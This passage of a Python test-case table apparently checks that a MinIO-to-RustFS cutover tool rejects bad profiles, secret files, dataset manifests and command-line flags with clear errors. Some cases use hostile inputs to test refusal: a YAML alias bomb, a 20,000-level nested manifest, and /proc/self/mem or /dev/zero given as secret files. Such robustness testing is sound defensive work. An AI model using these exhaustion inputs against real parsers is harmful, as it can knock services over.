        PRODUCTION,
        "`rotation.generate_if_missing: true` in production",
        "rotation.generate_if_missing is for rehearsals",
        load(profile(put("rotation.generate_if_missing", True), mode="production")),
    ),
    _case(
        "prod-standin-proxy",
        PRODUCTION,
        "`public.standin_proxy: true` in production",
        "public.standin_proxy is for rehearsals: production names the real hostname "
        "(public.api_url)",
        load(
            profile(
                put("public.api_url", ...), put("public.standin_proxy", True), mode="production"
            )
        ),
    ),
    _case(
        "prod-oidc-auto",
        PRODUCTION,
        "`oidc.issuer: auto` in production",
        "oidc.issuer is 'auto', which only a rehearsal's stand-in IdP can fill: name the "
        "JumpCloud value",
        load(profile(put("oidc.issuer", "auto"), mode="production")),
    ),
    _case(
        "prod-oidc-no-secret",
        PRODUCTION,
        "`oidc:` without a client secret source in production",
        "oidc needs client_secret_env or client_secret_file: the JumpCloud app's client secret, "
        "never written in the profile",
        load(profile(put("oidc.client_secret_env", ...), mode="production")),
    ),
    _case(
        "prod-r2-standin",
        PRODUCTION,
        "`r2.endpoint: standin` in production",
        "r2.endpoint: standin and r2.generate_if_missing are for rehearsals",
        load(profile(put("r2.endpoint", "standin"), mode="production")),
    ),
    # --- secrets ---------------------------------------------------------------------------
    _case(
        "no-root-secret",
        SECRETS,
        "no root secret (`$CUTOVER_ROOT_SECRET` unset, no file, no generating)",
        "no root secret key: set environment variable CUTOVER_ROOT_SECRET to MinIO's root secret "
        "(RustFS must reuse it)",
        load(profile(put("credentials.generate_if_missing", False)), env={}),
    ),
    _case(
        "secret-file-missing",
        SECRETS,
        "`credentials.secret_file` that does not exist",
        "root secret file <dir>/nosuch (credentials.secret_file) does not exist",
        root_secret_file(lambda d: str(d / "nosuch")),
    ),
    _case(
        "secret-file-directory",
        SECRETS,
        "`credentials.secret_file` naming a directory",
        "root secret file <dir>/secrets (credentials.secret_file) is a directory, not a file "
        "holding the secret",
        root_secret_file(directory("secrets")),
    ),
    _case(
        "secret-file-empty",
        SECRETS,
        "an empty secret file",
        "root secret file <dir>/secret.txt (credentials.secret_file) is empty",
        root_secret_file(secret_file("\n")),
    ),
    _case(
        "secret-file-binary",
        SECRETS,
        "a binary secret file (was: UnicodeDecodeError)",
        "root secret file <dir>/secret.txt (credentials.secret_file) is not text (not UTF-8): it "
        "must hold the secret as one line of text",
        root_secret_file(secret_file(b"\x89PNG\r\n\x1a\n\xff\xfe")),
    ),
    _case(
        "secret-file-proc-mem",
        SECRETS,
        "`credentials.secret_file: /proc/self/mem` (was: OSError)",
        "root secret file /proc/self/mem (credentials.secret_file) cannot be read (Input/output "
        "error)",
        root_secret_file("/proc/self/mem"),
    ),
    _case(
        "secret-file-device",
        SECRETS,
        "`credentials.secret_file: /dev/zero` (endless)",
        "root secret file /dev/zero (credentials.secret_file) is not a regular file (a device or "
        "a pipe?)",
        root_secret_file("/dev/zero"),
    ),
    _case(
        "secret-file-unreadable",
        SECRETS,
        "a secret file this user may not read (mode 000; was: PermissionError)",
        "root secret file <dir>/secret.txt (credentials.secret_file) cannot be read by this user "
        "(permission denied)",
        as_nobody(root_secret_file(unreadable_secret)),
    ),
    _case(
        "secret-file-huge",
        SECRETS,
        "a 1 MiB secret file",
        "root secret file <dir>/secret.txt (credentials.secret_file) is larger than 64 KiB, too "
        "large to hold one secret",
        root_secret_file(secret_file("x" * (1 << 20))),
    ),
    _case(
        "secret-file-two-lines",
        SECRETS,
        "a secret file of two lines",
        "root secret file <dir>/secret.txt (credentials.secret_file) holds more than one line (or "
        "NUL bytes): it must hold the secret alone",
        root_secret_file(secret_file("first\nsecond\n")),
    ),
    _case(
        "new-secret-file-directory",
        SECRETS,
        "`rotation.new_secret_file` naming a directory",
        "no new root secret for the rotation: the file <dir>/secrets (rotation.new_secret_file) "
        "is a directory, not a file holding the secret; nothing was changed",
        phase(_rotation(directory("secrets"))),
        via="phase",
    ),
    _case(
        "client-secret-file-binary",
        SECRETS,
        "`oidc.client_secret_file` binary",
        "OIDC client secret file <dir>/secret.txt (oidc.client_secret_file) is not text (not "
        "UTF-8)",
        phase(_oidc(secret_file(b"\xff\xfe\x00"))),
        via="phase",
    ),
    _case(
        "r2-secret-file-proc-mem",
        SECRETS,
        "`r2.secret_file: /proc/self/mem`",
        "R2 secret file /proc/self/mem (r2.secret_file) cannot be read (Input/output error)",
        phase(_r2("/proc/self/mem")),
        via="phase",
    ),
    # --- the manifest ----------------------------------------------------------------------
    _case(
        "manifest-missing",
        MANIFEST_GROUP,
        "`--datasets` naming no file",
        "dataset manifest not found: <dir>/nosuch.yml",
        load("rehearsal", lambda d: str(d / "nosuch.yml")),
    ),
    _case(
        "manifest-directory",
        MANIFEST_GROUP,
        "`--datasets` naming a directory",
        "dataset manifest <dir>/data-plane is a directory: name the YAML file inside it",
        load("rehearsal", directory("data-plane")),
    ),
    _case(
        "manifest-malformed",
        MANIFEST_GROUP,
        "malformed YAML",
        "<dir>/datasets.yml: not valid YAML at line",
        load("rehearsal", manifest_with("buckets:\n  - name: raw\n    tier: [local\n")),
    ),
    _case(
        "manifest-bucket-name",
        MANIFEST_GROUP,
        "bucket `Raw_Data`, tier `s3`",
        "bucket 'Raw_Data' (buckets[0]) field 'name': 'Raw_Data' is not a valid S3 bucket name",
        load("rehearsal", manifest_with(manifest_yaml(bucket(name="Raw_Data", tier="s3")))),
    ),
    _case(
        "manifest-duplicate",
        MANIFEST_GROUP,
        "a bucket listed twice",
        "bucket 'raw' is listed twice (buckets[0] and buckets[1]); keep one entry",
        load("rehearsal", manifest_with(manifest_yaml(bucket(), bucket()))),
    ),
    _case(
        "manifest-no-buckets",
        MANIFEST_GROUP,
        "`buckets: []`",
        "field 'buckets': List should have at least 1 item after validation, not 0",
        load("rehearsal", manifest_with("version: 1\nbuckets: []\n")),
    ),
    _case(
        "manifest-lock-unversioned",
        MANIFEST_GROUP,
        "`object_lock: true` without versioning",
        "bucket 'raw' (buckets[0]): object_lock: true needs versioning: true (S3 requires it)",
        load("rehearsal", manifest_with(manifest_yaml(bucket(object_lock=True)))),
    ),
    _case(
        "manifest-version",
        MANIFEST_GROUP,
        "`version: 2`",
        "field 'version': unsupported manifest version 2; this tool reads version 1",
        load("rehearsal", manifest_with(manifest_yaml(bucket(), version=2))),
    ),
    _case(
        "manifest-deep",
        MANIFEST_GROUP,
        "a manifest nested 20,000 levels deep (was: RecursionError)",
        "<dir>/datasets.yml: refused, nesting deeper than 64 levels at line 1, column 65: a "
        "dataset manifest is a few kilobytes of plain YAML",
        load("rehearsal", manifest_with(deep(20_000))),
    ),
    _case(
        "manifest-alias-bomb",
        MANIFEST_GROUP,
        "a manifest of nested aliases (387 million values)",
        "<dir>/datasets.yml: refused, more than 200,000 values once its aliases (*name) are "
        "expanded, at line 5",
        pytest_cli(_SUITE, "--datasets", manifest_with(alias_bomb("buckets"))),
        via="pytest",
    ),
    # --- the command line ------------------------------------------------------------------
    _case(
        "confirm-in-rehearsal",
        CLI,
        "`--confirm marathon/minio-dataset` with a rehearsal profile (was: ignored)",
        "--confirm applies to production profiles only (it allows the actions on the NAS); "
        "<checkout>/targets/rehearsal.yml is a rehearsal, which acts on its own scratch copy without "
        "it: drop --confirm; nothing was started",
        pytest_cli(_SUITE, "--confirm", "marathon/minio-dataset"),
        via="pytest",
    ),
    _case(
        "state-dir-in-rehearsal",
        CLI,
        "`--state-dir` with a rehearsal profile (was: ignored)",
        "--state-dir applies to production runs only (what a resumed run on the NAS needs); a "
        "rehearsal keeps everything in its report directory: drop --state-dir; nothing was started",
        pytest_cli(_SUITE, "--state-dir", lambda d: str(d / "state")),
        via="pytest",
    ),
    _case(
        "target-engine-in-production",
        CLI,
        "`--target-engine minio` with a production profile (was: ignored)",
        "--target-engine applies to rehearsals only (it picks what plays the target on this "
        "machine); on the NAS the target is the profile's rustfs app (rustfs/rustfs:1.0.1): drop "
        "--target-engine; nothing was changed",
        pytest_cli(_SUITE, "--target", profile(mode="production"), "--target-engine", "minio"),
        via="pytest",
    ),
    _case(
        "target-engine-unknown",
        CLI,
        "`--target-engine ceph`",
        "argument --target-engine: invalid choice: 'ceph' (choose from 'rustfs', 'minio')",
        pytest_cli(_SUITE, "--target-engine", "ceph"),
        via="pytest",
    ),
    _case(
        "rollback-in-rehearsal",
        CLI,
        "`--rollback` with a rehearsal profile",
        "--rollback needs ZFS and TrueNAS, which a rehearsal does not have; the rollback is "
        "rehearsed over SSH against the NAS doubles (pytest tests/nas)",
        pytest_cli(_SUITE, "--rollback"),
        via="pytest",
    ),
    _case(
        "rollback-unconfirmed",
        CLI,
        "`--rollback` without `--confirm` (production)",
        "--rollback destroys every write made after @pre-rustfs: it runs only with --confirm "
        "marathon/minio-dataset; nothing was changed",
        pytest_cli(_SUITE, "--target", profile(mode="production"), "--rollback"),
        via="pytest",
    ),
    _case(
        "confirm-other-dataset",
        CLI,
        "`--confirm tank/other` (production)",
        "--confirm tank/other does not name this profile's dataset (marathon/minio-dataset in "
        "<dir>/profile.yml); nothing was changed. Confirm the dataset you mean to cut over",
        pytest_cli(_SUITE, "--target", profile(mode="production"), "--confirm", "tank/other"),
        via="pytest",
    ),
    _case(
        "report-dir-file",
        CLI,
        "`--report-dir` naming a file (was: FileExistsError)",
        "--report-dir <dir>/reports is a file, not a directory: name a directory (it is created "
        "when missing, inside an existing one)",
        pytest_cli(_SUITE, "--report-dir", file("reports", "not a directory\n"), report_dir=False),
        via="pytest",
    ),
    _case(
        "report-dir-no-parent",
        CLI,
        "`--report-dir` under a missing directory",
        "--report-dir <dir>/typo/reports: its parent <dir>/typo does not exist (a typo?); create "
        "it first or name a directory inside an existing one",
        pytest_cli(_SUITE, "--report-dir", lambda d: str(d / "typo" / "reports"), report_dir=False),
        via="pytest",
    ),
    _case(
        "state-dir-file",
        CLI,
        "`--state-dir` naming a file (production; was: FileExistsError after SSH)",
        "--state-dir <dir>/state is a file, not a directory: name a directory (it is created when "
        "missing, inside an existing one); nothing was changed",
        pytest_cli(
            _SUITE, "--target", profile(mode="production"), "--state-dir", file("state", "x\n")
        ),
        via="pytest",
    ),
    _case(
        "state-dir-no-parent",
        CLI,
        "`--state-dir` under a missing directory (production)",
        "--state-dir <dir>/typo/state: its parent <dir>/typo does not exist (a typo?)",
        pytest_cli(
            _SUITE,
            "--target",
            profile(mode="production"),
            "--state-dir",
            lambda d: str(d / "typo" / "state"),
        ),
        via="pytest",
    ),
    _case(
        "pytest-dot",
        CLI,
        "`pytest .` (suites and the project's tests at once; was: KeyError StashKey in every test)",
        ". holds both the runbook suites (<checkout>/suites) and this project's own tests: run "
        "the cutover with `pytest suites --target <profile> ...` (or plain `pytest`), the "
        "project's tests with `pytest tests`; nothing was run",
        pytest_cli("."),
        via="pytest",
    ),
    _case(
        "pytest-mixed",
        CLI,
        "`pytest suites /outside/p.yml` (a profile path where a test path goes)",
        "<dir>/profile.yml is not a runbook suite, yet this run also names suites: run the cutover "
        "(`pytest suites ...`) and anything else separately; a profile path goes after --target; "
        "nothing was run",
        pytest_cli("suites", profile()),
        via="pytest",
    ),
    _case(
        "target-space-outside",
        CLI,
        "`pytest --target /outside/p.yml` (space form, no test path; was: pytest's "
        '"unrecognized arguments")',
        "pytest did not load the rustfs-cutover options (--target): it looks for the checkout's "
        "conftest.py only along the test paths named, and took <dir>/profile.yml for one. "
        "Write --target=<dir>/profile.yml (with '='), or name the suites first "
        "(pytest suites --target ...), from the rustfs-cutover checkout",
        pytest_cli(*guard_plugin_args(), "--target", profile(), report_dir=False),
        via="pytest",
    ),
    _case(
        "plan-broken-manifest",
        CLI,
        "`python -m cutover.plan` for a profile whose manifest is broken (was: a traceback)",
        "<dir>/datasets.yml: not valid YAML at line",
        plan_cli(
            "--target",
            lambda d: profile(put("manifest", manifest_with("buckets: [\n")(d)), mode="production")(
                d
            ),
        ),
        via="plan",
    ),
    _case(
        "plan-deep-profile",
        CLI,
        "`python -m cutover.plan` for a 20,000-deep profile",
        "<dir>/p.yml: refused, nesting deeper than 64 levels",
        plan_cli("--target", file("p.yml", deep(20_000))),
        via="plan",
    ),
    _case(
        "plan-missing",
        CLI,
        "`python -m cutover.plan --target nosuch`",
        "target profile 'nosuch' not found",
        plan_cli("--target", "nosuch"),
        via="plan",
    ),
    # --- dress rehearsal options -----------------------------------------------------------
    _case(
        "plan-dress-rehearsal-profile",
        DRESS,
        "`python -m cutover.plan --dress-rehearsal` for a rehearsal profile",
        "a dress rehearsal runs on a copy of real data: give a production profile (a ZFS clone "
        "on the NAS) or a local copy of a MinIO data directory (pytest suites --source-dir DIR; "
        "it has no plan to print, it acts on its own copy only); "
        "<checkout>/targets/rehearsal.yml is a rehearsal profile, whose plain run already works "
        "on scratch data; nothing was started",
        plan_cli("--target", "rehearsal", "--dress-rehearsal"),
        via="plan",
    ),
    _case(
        "plan-dress-rollback",
        DRESS,
        "`python -m cutover.plan --dress-rehearsal --rollback`",
        "argument --rollback: not allowed with argument --dress-rehearsal",
        plan_cli("--target", "rehearsal", "--dress-rehearsal", "--rollback"),
        via="plan",
    ),
    _case(
        "dress-rehearsal-profile",
        DRESS,
        "`--dress-rehearsal` with a rehearsal profile and no `--source-dir`",
        "a dress rehearsal runs on a copy of real data: give a production profile (a ZFS clone "
        "on the NAS) or --source-dir <a local copy of a MinIO data directory>; "
        "<checkout>/targets/rehearsal.yml is a rehearsal profile, whose plain run already works "
        "on scratch data; nothing was started",
        pytest_cli(_SUITE, "--dress-rehearsal"),
        via="pytest",
    ),
    _case(
        "dress-confirm",
        DRESS,
        "`--dress-rehearsal --confirm marathon/minio-dataset` (production)",
        "--confirm does not apply to a dress rehearsal, which never acts on production (its own "
        "snapshot, clone and containers need no confirmation and are removed at the end): drop "
        "--confirm, or drop --dress-rehearsal/--source-dir for the real cutover; nothing was "
        "started",
        pytest_cli(
            _SUITE,
            "--target",
            profile(mode="production"),
            "--dress-rehearsal",
            "--confirm",
            "marathon/minio-dataset",
        ),
        via="pytest",
    ),
    _case(
        "dress-rollback",
        DRESS,
        "`--source-dir <dir> --rollback`",
        "--rollback does not apply to a dress rehearsal, which never acts on production",
        pytest_cli(_SUITE, "--source-dir", minio_dir("store"), "--rollback"),
        via="pytest",
    ),
    _case(
        "dress-state-dir",
        DRESS,
        "`--dress-rehearsal --state-dir <dir>` (production)",
        "--state-dir does not apply to a dress rehearsal, which never acts on production",
        pytest_cli(
            _SUITE,
            "--target",
            profile(mode="production"),
            "--dress-rehearsal",
            "--state-dir",
            lambda d: str(d / "state"),
        ),
        via="pytest",
    ),
    _case(
        "dress-target-engine-nas",
        DRESS,
        "`--dress-rehearsal --target-engine minio` (production, on the NAS)",
        "--target-engine applies to rehearsals on this machine; a dress rehearsal on the NAS runs "
        "the profile's rustfs/rustfs:1.0.1: drop --target-engine; nothing was started",
        pytest_cli(
            _SUITE,
            "--target",
            profile(mode="production"),
            "--dress-rehearsal",
            "--target-engine",
            "minio",
        ),
        via="pytest",
    ),
    _case(
        "source-dir-missing",
        DRESS,
        "`--source-dir` naming nothing",
        "--source-dir <dir>/nosuch does not exist: name the local copy of the MinIO data "
        "directory (the one holding .minio.sys and the buckets)",
        pytest_cli(_SUITE, "--source-dir", lambda d: str(d / "nosuch")),
        via="pytest",
    ),
    _case(
        "source-dir-file",
        DRESS,
        "`--source-dir` naming a file",
        "--source-dir <dir>/store.tar is a file, not a MinIO data directory",
        pytest_cli(_SUITE, "--source-dir", file("store.tar", "not a directory\n")),
        via="pytest",
    ),
    _case(
        "source-dir-not-minio",
        DRESS,
        "`--source-dir` naming a directory without `.minio.sys`",
        "--source-dir <dir> holds no .minio.sys (wrong directory, or an empty one); nothing was "
        "started",
        pytest_cli(_SUITE, "--source-dir", lambda d: str(d)),
        via="pytest",
    ),
    _case(
        "source-dir-nested",
        DRESS,
        "`--source-dir` one level above the data",
        "--source-dir <dir>/store holds no .minio.sys: the data is nested one level down, name "
        "<dir>/store/data instead; nothing was started",
        pytest_cli(_SUITE, "--source-dir", minio_dir("store", nested="data")),
        via="pytest",
    ),
    _case(
        "source-dir-holds-reports",
        DRESS,
        "`--source-dir` holding the `--report-dir`",
        "--source-dir <dir> holds the report directory <dir>/reports: the run would write into "
        "the data it copies; give another --report-dir",
        pytest_cli(
            _SUITE,
            "--source-dir",
            lambda d: (d / ".minio.sys").mkdir() or str(d),
        ),
        via="pytest",
    ),
    _case(
        "source-dir-no-secret",
        DRESS,
        "`--source-dir` with a rehearsal profile and its secret variable unset (was: generated)",
        "no root secret key: set environment variable DRESS_UNSET_SECRET to MinIO's root secret "
        "(the copy's IAM and RustFS need it)",
        pytest_cli(
            _SUITE,
            "--target",
            profile(put("credentials.secret_env", "DRESS_UNSET_SECRET")),
            "--source-dir",
            minio_dir("store"),
        ),
        via="pytest",
    ),
]
